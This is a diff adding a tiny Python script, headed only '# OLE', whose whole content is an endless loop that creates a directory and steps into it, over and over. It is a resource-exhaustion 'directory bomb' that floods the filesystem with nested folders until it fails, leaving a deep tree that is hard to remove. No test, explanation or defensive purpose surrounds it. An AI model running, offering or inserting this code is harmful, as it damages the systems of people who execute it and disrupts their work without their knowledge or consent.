@@ -1,0 +1,6 @@
+# OLE
+import os
+
+while True:
+    os.mkdir("d")
+    os.chdir("d")
